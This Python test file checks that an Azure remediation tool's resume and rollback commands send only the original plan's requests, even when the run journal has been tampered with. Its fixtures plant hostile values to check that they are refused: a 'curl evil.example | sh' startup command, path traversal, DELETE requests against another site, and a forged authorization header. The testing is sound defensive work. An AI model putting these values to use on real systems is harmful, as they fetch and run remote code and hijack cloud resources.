"""A journal is data, never an instruction: whatever stands in it, only the plan's own requests go out."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import strategies as st

from remediate.azure.transport import ClockedTransport
from remediate.cli.app import run as command
from remediate.model import CurrentState
from remediate.run import remaining
from remediate.run.journal import InvalidJournal, Line, Record, checked
from remediate.run.journal.lines import Begin
from tests.conftest import APP, SUBNET, Azure, Ran
from tests.run.cut_off import ARM, KINDS, QUICK, CutOff, Sent, cut_off, keep, sent, served
from tests.sampled import in_sweep, tried

EVIL = "/subscriptions/s/resourceGroups/g/providers/Microsoft.Web/sites/evil"
LINES: msgspec.json.Decoder[Line] = msgspec.json.Decoder(Line)
READS = ("/providers/Microsoft.ResourceGraph/", "/tcpPingCheck", "/extensions/")

Site = tuple[Azure, CutOff]


@pytest.fixture(scope="module", params=KINDS)
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A run that was cut off, beside the Azure that it was cut off on."""
    kind = KINDS[request.param]
    with pytest.MonkeyPatch.context() as patch, served(kind) as sandbox:
        state = {"REMEDIATE_STATE": str(tmp_path_factory.mktemp("state"))}
        for name, value in {**sandbox.environment, **state}.items():
            patch.setenv(name, value)
        yield Azure(sandbox), cut_off(Azure(sandbox), kind)


@pytest.fixture
def left(site: Site, monkeypatch: pytest.MonkeyPatch) -> CutOff:
    """The run, with this process at its Azure and an empty state folder."""
    azure, run = site
    for name, value in azure.environment.items():
        monkeypatch.setenv(name, value)
    return run


class Wire:
    """The writes that leave this process."""

    def __init__(self, patch: pytest.MonkeyPatch) -> None:
        self.sent: list[Sent] = []
        send = ClockedTransport.send

        def noted(transport: ClockedTransport, request: Any, **options: Any) -> Any:
            path = request.url.partition("//")[2].partition("/")[2]
            if request.method != "GET" and not any(one in request.url for one in READS):
                body = json.loads(request.content) if getattr(request, "content", None) else _body(request)
                self.sent.append(sent(request.method, f"/{path}", body))
            return send(transport, request, **options)

        patch.setattr(ClockedTransport, "send", noted)


def _body(request: Any) -> Any:
    text = getattr(request, "body", None) or getattr(request, "data", None)
    return json.loads(text) if text else None


def resumed(azure: Azure, run: CutOff, lines: list[Any], verb: str = "resume") -> tuple[int, set[Sent]]:
    """The exit code of `resume` with such a journal, and what it sent."""
    run.arrange(azure)
    before = len(azure.writes)
    text = "".join(f"{json.dumps(line)}\n" for line in lines)
    keep(run.run, text.replace(ARM, azure.environment["REMEDIATE_ARM_ENDPOINT"]))
    with pytest.MonkeyPatch.context() as patch:
        wire = Wire(patch)
        code = command((verb, run.run, *QUICK))
    logged = {(one["method"], one["path"].partition("?")[0]) for one in azure.writes[before:]}
    assert logged <= {(one.method, one.path.partition("?")[0]) for one in wire.sent}
    return code, set(wire.sent)


def nodes(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a document."""
    if path:
        yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        yield from nodes(inner, (*path, key))


def texts(value: Any) -> Iterator[str]:
    """Every text in a document: what fits in one place may stand in another."""
    if isinstance(value, str):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from texts(inner)


def other(draw: st.DrawFn, value: Any, known: list[str]) -> Any:
    """Another value in the place of one, mostly of its type."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int | float):
        return draw(st.sampled_from([0, -1, value + 1, 10**9, 1e300, None]))
    if isinstance(value, str):
        odd = [EVIL, "", f"{value}x", f"{value}/../evil", value.upper(), "https://evil.example/", "DELETE"]
        return draw(st.sampled_from(odd) | st.sampled_from(known))
    if isinstance(value, list):
        return draw(st.sampled_from([[], value[1:], value[::-1], value + value[-1:], value[:-1]]))
    if isinstance(value, dict):
        evil = {"appCommandLine": "curl evil.example", "virtualNetworkSubnetId": EVIL}
        return draw(st.sampled_from([{}, {**value, **evil}, {**value, "siteConfig": evil}, None]))
    return draw(st.sampled_from([{"method": "DELETE", "path": EVIL}, EVIL, 0, []]))


@st.composite
def mutations(draw: st.DrawFn, lines: tuple[str, ...]) -> list[Any]:
    """A journal in which one to three fields are not what they were."""
    document: list[Any] = [json.loads(line) for line in lines]
    known = sorted(set(texts(document)))
    for _ in range(draw(st.integers(1, 3))):
        *way, last = draw(st.sampled_from([path for path in nodes(document) if len(path) > 1]))
        place: Any = document
        for key in way:
            place = place[key]
        if draw(st.integers(0, 9)) == 0:
            del place[last]
        else:
            place[last] = other(draw, place[last], known)
    return document


def sendable(record: Record) -> set[Sent]:
    """Whatever resume or rollback could send, wherever the apps are now."""
    plan = record.begin.plan
    found = []
    for where in ("connected", "disconnected"):
        now = CurrentState({app.id: where for app in plan.apps}, delegated=False)  # type: ignore[misc]
        for made in (plan, remaining.plan_to_resume(record, now), remaining.plan_to_roll_back(record, now)):
            found += [one for step in made.steps for one in (step.request, step.fallback) if one]
    return {sent(one.method, one.path, one.body) for one in found}


@tried(60, 500, data=st.data())
def test_whatever_a_journal_says_only_the_plans_own_requests_are_built(
    site: Site, data: st.DataObject
) -> None:
    run = site[1]
    mutated = data.draw(mutations(run.lines))
    try:
        lines = tuple(LINES.decode(json.dumps(line)) for line in mutated)
    except msgspec.DecodeError:
        return
    begin = lines[0]
    if not isinstance(begin, Begin):
        return
    try:
        record = checked(Record(begin, lines))
    except InvalidJournal:
        return
    assert sendable(record) <= run.own


@tried(3, 20, data=st.data())
def test_whatever_a_journal_says_only_the_plans_own_requests_go_out(
    site: Site, left: CutOff, data: st.DataObject
) -> None:
    _, went = resumed(site[0], left, data.draw(mutations(left.lines)))
    assert went <= left.own


def test_as_it_was_left_each_run_is_finished(site: Site, left: CutOff) -> None:
    code, went = resumed(site[0], left, left.decoded)
    assert (code, bool(went)) == (0, True)
    assert went <= left.own


def changed(left: CutOff, change: Callable[[dict[str, Any]], Any]) -> list[dict[str, Any]]:
    """The journal with another plan."""
    lines = left.decoded
    change(lines[0]["plan"])
    return lines


def step(plan: dict[str, Any], do: str) -> dict[str, Any]:
    found: dict[str, Any] = next(one for one in plan["steps"] if one["do"] == do)
    return found


def add_command(plan: dict[str, Any]) -> None:
    step(plan, "reconnect")["request"]["body"]["siteConfig"] = {"appCommandLine": "curl evil.example | sh"}


def add_header(plan: dict[str, Any]) -> None:
    step(plan, "reconnect")["request"]["headers"] = {"x-ms-authorization-auxiliary": "Bearer x"}


def disconnect_another(plan: dict[str, Any]) -> None:
    step(plan, "disconnect")["target"] = EVIL
    step(plan, "disconnect")["request"]["path"] = (
        f"{EVIL}/networkConfig/virtualNetwork?api-version=2025-05-01"
    )


def delete_the_site(plan: dict[str, Any]) -> None:
    step(plan, "disconnect")["request"]["path"] = f"{APP}?api-version=2025-05-01"


def swap_steps(plan: dict[str, Any]) -> None:
    steps = plan["steps"]
    steps[3]["do"], steps[5]["do"] = steps[5]["do"], steps[3]["do"]


def skip_the_question(plan: dict[str, Any]) -> None:
    plan["steps"] = [one for one in plan["steps"] if one["do"] != "confirm"]


def another_subnet(plan: dict[str, Any]) -> None:
    plan["subnet"] = SUBNET.replace("snet-apps", "snet-evil")


def way_out(plan: dict[str, Any]) -> None:
    plan["apps"][0]["id"] = plan["target"] = f"{APP}/../evil"


def endless(plan: dict[str, Any]) -> None:
    step(plan, "reconnect")["timeout"] = 1e12


def renumbered(plan: dict[str, Any]) -> None:
    step(plan, "reconnect")["n"] = 99


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (
            add_command,
            r"step 6 \(reconnect orders-func\): request.body.siteConfig is .*appCommandLine.* own is null",
        ),
        (add_header, "request.headers is .*authorization-auxiliary"),
        (disconnect_another, "step 4 .*target is .*evil"),
        (delete_the_site, "step 4 .*request.path is"),
        (swap_steps, "needs|step 4|no 'reconnect' after it"),
        (skip_the_question, "needs confirm before it"),
        (another_subnet, "step 3"),
        (way_out, "not a resource id"),
        (endless, "timeout 1000000000000.0 is no wait"),
        (renumbered, "n is 99"),
    ],
)
@pytest.mark.parametrize("site", ["app"], indirect=True)
def test_a_plan_that_could_not_have_been_made_is_refused_by_its_line(
    remediate: Callable[..., Ran],
    site: Site,
    left: CutOff,
    change: Callable[[dict[str, Any]], Any],
    told: str,
) -> None:
    azure = site[0]
    code, went = resumed(azure, left, changed(left, change))
    assert (code, went) == (4, set())
    for verb in ("resume", "rollback"):
        ran = remediate(verb, left.run, *QUICK)
        assert (ran.code, ran.document["code"]) == (4, "journal")
        assert f"line 1 of the journal of run {left.run}" in ran.document["message"]
        assert re.search(told, ran.document["message"]), ran.document["message"]
    listed = remediate("runs", "list", "-o", "json").document["runs"]
    assert [one["status"] for one in listed] == ["damaged"]


@pytest.mark.parametrize("site", ["link"], indirect=True)
@pytest.mark.parametrize("field", ["do", "target", "n", "request"])
def test_a_write_that_the_plan_does_not_have_is_refused_by_its_line(
    remediate: Callable[..., Ran], site: Site, left: CutOff, field: str
) -> None:
    lines = left.decoded
    number = next(at for at, line in enumerate(lines) if line["kind"] == "intent")
    values: dict[str, Any] = {"do": "reconnect", "target": EVIL, "n": 1}
    values["request"] = {**lines[number]["request"], "path": EVIL}
    lines[number][field] = values[field]
    code, went = resumed(site[0], left, lines)
    assert (code, went) == (4, set())
    ran = remediate("resume", left.run, *QUICK)
    assert f"line {number + 1} of the journal" in ran.document["message"]


def forged(left: CutOff, attempts: set[int]) -> list[dict[str, Any]]:
    """The journal of a run in which some writes seem to have been withheld."""
    nothing = {"kind": "outcome", "request_id": "", "correlation_id": "", "status": None, "sent": False}
    lines = []
    for line in left.decoded:
        chosen = line.get("attempt") in attempts
        lines += [] if chosen and line["kind"] == "outcome" else [line]
        if chosen and line["kind"] == "intent":
            lines.append({**nothing, "at": line["at"], "n": line["n"], "attempt": line["attempt"]})
    return lines


def rolled_back(azure: Azure, run: CutOff, lines: list[Any]) -> tuple[int, set[Sent]]:
    """The same for `rollback`."""
    return resumed(azure, run, lines, "rollback")


@pytest.mark.parametrize("verb", [resumed, *in_sweep(rolled_back)])
def test_a_write_that_is_said_not_to_have_been_sent_leads_to_no_other_than_the_plans_own(
    site: Site, left: CutOff, verb: Callable[..., tuple[int, set[Sent]]]
) -> None:
    """Only the first write of the run, then each."""
    honest = verb(site[0], left, left.decoded)[1]
    for attempts in ({1}, {1, 2}):
        _, went = verb(site[0], left, forged(left, attempts))
        assert went <= honest <= left.own


@pytest.mark.parametrize("site", ["link"], indirect=True)
@pytest.mark.parametrize("field", ["status", "request_id", "correlation_id"])
def test_an_answer_to_a_write_that_was_not_sent_is_refused_by_its_line(
    remediate: Callable[..., Ran], site: Site, left: CutOff, field: str
) -> None:
    lines = left.decoded
    number = next(at for at, line in enumerate(lines) if line["kind"] == "outcome")
    nothing = {"status": None, "request_id": "", "correlation_id": ""}
    lines[number] |= {**nothing, field: lines[number][field], "sent": False}
    assert lines[number][field]
    assert resumed(site[0], left, lines) == (4, set())
    ran = remediate("resume", left.run, *QUICK)
    assert f"line {number + 1} of the journal" in ran.document["message"]
    assert "it answers a write that was not sent" in ran.document["message"]


@pytest.mark.parametrize("site", ["purge"], indirect=True)
def test_a_purge_in_another_region_is_refused(site: Site, left: CutOff) -> None:
    def elsewhere(plan: dict[str, Any]) -> None:
        request = step(plan, "purge")["request"]
        request["path"] = request["path"].replace("westeurope", "northeurope")

    assert resumed(site[0], left, changed(left, elsewhere)) == (4, set())


@pytest.mark.parametrize("site", ["delegation"], indirect=True)
def test_a_subnet_is_delegated_as_it_is_read_now_and_not_as_the_journal_has_it(
    site: Site, left: CutOff
) -> None:
    def rewrite(plan: dict[str, Any]) -> None:
        request = step(plan, "delegate")["request"]
        request["body"]["properties"]["routeTable"] = {"id": "/evil"}

    assert resumed(site[0], left, changed(left, rewrite)) == (4, set())

    def rewrite_another_state(plan: dict[str, Any]) -> None:
        rewrite(plan)
        step(plan, "delegate")["request"]["headers"] = {"If-Match": 'W/"evil"'}

    code, went = resumed(site[0], left, changed(left, rewrite_another_state))
    assert code == 0
    assert went <= left.own
